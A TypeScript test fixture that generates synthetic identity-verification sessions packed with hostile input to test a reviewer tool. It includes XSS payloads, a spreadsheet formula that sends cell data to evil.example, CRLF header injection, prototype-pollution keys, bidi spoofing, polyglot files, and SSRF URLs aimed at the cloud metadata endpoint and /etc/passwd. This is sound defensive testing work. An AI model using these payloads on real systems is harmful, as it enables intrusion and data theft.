import type { EvidenceSpec } from '../../evidence/index.ts';
import { drawFrom } from '../../seed.ts';
import { type Session, SpecimenFile } from '../../session.ts';
import { identityParts } from '../persons/identity.ts';
import { approved, type IndividualOptions, individual, type StepOptions } from '../persons/individual.ts';
import { type PersonOptions, person } from '../persons/person.ts';
import { proofParts } from '../persons/step-answers.ts';

type Trick = Extract<EvidenceSpec, { kind: 'hostile' }>['trick'];

const hostileFile = (trick: Trick) => new SpecimenFile({ kind: 'hostile', trick });

const latin = { latinFirst: 'HOSTILE', latinLast: 'SPECIMEN' };

/** Hostile strings in names, numbers, aliases, devices, reasons. */
export const hostileText = {
  script: '<script>alert(document.domain)</script>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  bidi: 'invoice\u202Egpj.exe\u202C',
  zeroWidth: 'Ma\u200Bria\u200D\uFEFF\u2060',
  control: 'line one\r\nline two\u0000\u001b[31mred\u0007',
  surrogate: 'broken \uD83D half \uDE00',
  long: 'ab cdefgh '.repeat(30),
};

/** Attacks of a user on a reviewer. */
export function hostileSituations(todayMs: number): Session[] {
  const named = (name: string, known: PersonOptions, more: Partial<IndividualOptions> = {}) =>
    individual({
      seed: `hostile ${name}`,
      todayMs,
      known: { ...known, ...latin },
      tags: ['hostile-strings', `hostile-${name}`],
      steps: approved('ID_DOCUMENT', 'LIVENESS', 'AML'),
      ...more,
    });
  const stepOf = (type: string, more: Partial<StepOptions>): StepOptions[] => [
    { type, ...more },
    ...approved('LIVENESS'),
  ];
  const files = (tag: string, steps: readonly StepOptions[]) => individual({ seed: tag, todayMs, tags: [tag], steps });
  const who = person('hostile everywhere', todayMs, {
    firstname: hostileText.script,
    lastname: hostileText.formula,
    ...latin,
  });
  const tricked = person('hostile-files', todayMs);
  const tricker = drawFrom('hostile-files');
  const elsewhere = person('hostile-addresses', todayMs);
  const proof = proofParts(tricked, tricker, todayMs).submitted.document;

  return [
    individual({
      seed: 'hostile everywhere',
      todayMs,
      who,
      tags: ['hostile-strings'],
      alias: hostileText.script,
      steps: [
        {
          type: 'ID_DOCUMENT',
          status: 'REJECTED',
          parts: identityParts(who, drawFrom('hostile everywhere'), todayMs, {
            type: 'PASSPORT',
            further: {
              birth_place: hostileText.bidi,
              nationality: hostileText.zeroWidth,
              eye_colour: hostileText.surrogate,
              authority: hostileText.control,
              remarks: hostileText.long,
              [hostileText.script]: 'a key that bites',
              ['__proto__']: 'polluted',
              constructor: 'polluted',
            },
          }),
          reason: {
            code: '"><img src=x onerror=alert(1)>',
            message: { original: hostileText.script, translated: hostileText.formula },
          },
          metadata: {
            ip: '203.0.113.9',
            user_agent: hostileText.script,
            platform: hostileText.bidi,
            browser_name: hostileText.control,
            browser_version: hostileText.formula,
            device: hostileText.long,
            customer_language: hostileText.zeroWidth,
          },
        },
        ...approved('LIVENESS'),
      ],
    }),
    named('formula', { firstname: '@SUM(1+1)', lastname: '+cmd|calc' }, { alias: '=1+1' }),
    named('bidi', { firstname: '\u202Eesrever\u202C', lastname: 'O\u2067lder\u2069' }, { alias: hostileText.bidi }),
    named('zero-width', { firstname: hostileText.zeroWidth, lastname: 'Si\u200Blva' }),
    named('long', { firstname: hostileText.long.trim(), lastname: 'x'.repeat(300) }),
    named('control', { firstname: 'Tab\tand', lastname: 'Line\nBreak' }, { alias: 'alias\r\nSet-Cookie: a=b' }),
    files(
      'hostile-files',
      stepOf('ID_DOCUMENT', {
        parts: identityParts(tricked, tricker, todayMs, {
          type: 'NATIONAL_ID',
          files: {
            front: hostileFile('svg-as-jpeg'),
            back: hostileFile('html-as-png'),
            face: hostileFile('polyglot-gif-js'),
          },
          originalFiles: { front: hostileFile('truncated-jpeg'), back: hostileFile('empty') },
        }),
      }),
    ),
    files(
      'hostile-pdf',
      stepOf('PROOF_OF_ADDRESS', {
        parts: {
          submitted: { document: { ...(proof as object), files: { proof: hostileFile('zip-as-pdf') } } },
          blank: {},
        },
      }),
    ),
    files(
      'hostile-addresses',
      stepOf('ID_DOCUMENT', {
        parts: identityParts(elsewhere, drawFrom('hostile-addresses'), todayMs, {
          type: 'NATIONAL_ID',
          files: Object.fromEntries(
            ['front', 'back', 'face'].map((key, index) => [
              key,
              { url: foreignAddresses[index], type: 'image/jpeg', size: 1000 },
            ]),
          ),
          originalFiles: {
            front: { url: foreignAddresses[3], type: 'image/jpeg', size: 1000 },
            back: { url: foreignAddresses[4], type: 'image/jpeg', size: 1000 },
          },
        }),
      }),
    ),
  ];
}

/** None of these hosts is on a list of media hosts. */
const foreignAddresses = [
  'http://169.254.169.254/latest/meta-data/',
  'https://evil.example/passport.jpg',
  'file:///etc/passwd',
  'http://2130706433:9/x.jpg',
  'javascript:alert(1)',
];

/** Step types and keys beyond the contract, which may appear at any time (field notes). */
export function unknownSituations(todayMs: number): Session[] {
  const made = (tag: string, options: Partial<IndividualOptions>) =>
    individual({ seed: tag, todayMs, tags: [tag], steps: approved('ID_DOCUMENT', 'LIVENESS'), ...options });
  return [
    made('unknown-step', {
      steps: [
        ...approved('ID_DOCUMENT'),
        {
          type: 'VIDEO_INTERVIEW',
          parts: {
            submitted: {
              interview: {
                agent: 'agent 7',
                held_at: '10:30',
                questions: [{ asked: 'Why this account?', answered: 'To pay my rent' }],
              },
            },
            blank: {},
          },
        },
        {
          type: 'NFC_CHIP',
          status: 'PENDING_VERIFICATION',
          parts: { submitted: { chip: { read: true, data_groups: [1, 2, 14] } }, blank: {} },
        },
      ],
    }),
    made('unknown-status', {
      status: 'ON_HOLD',
      steps: [{ type: 'ID_DOCUMENT', status: 'ESCALATED' }, ...approved('LIVENESS')],
    }),
    made('unknown-keys', {
      extra: { flow: { id: 'flow-9', version: 12 }, expires_at: null },
      steps: [
        {
          type: 'ID_DOCUMENT',
          metadata: { ip: '192.0.2.44', timezone: 'Europe/Lisbon', screen: { width: 390, height: 844 } },
        },
        ...approved('LIVENESS'),
      ],
    }),
    made('number-ids', { stepIdsAs: 'number' }),
    made('no-steps', { steps: [], status: 'SUBMISSION_REQUIRED' }),
  ];
}
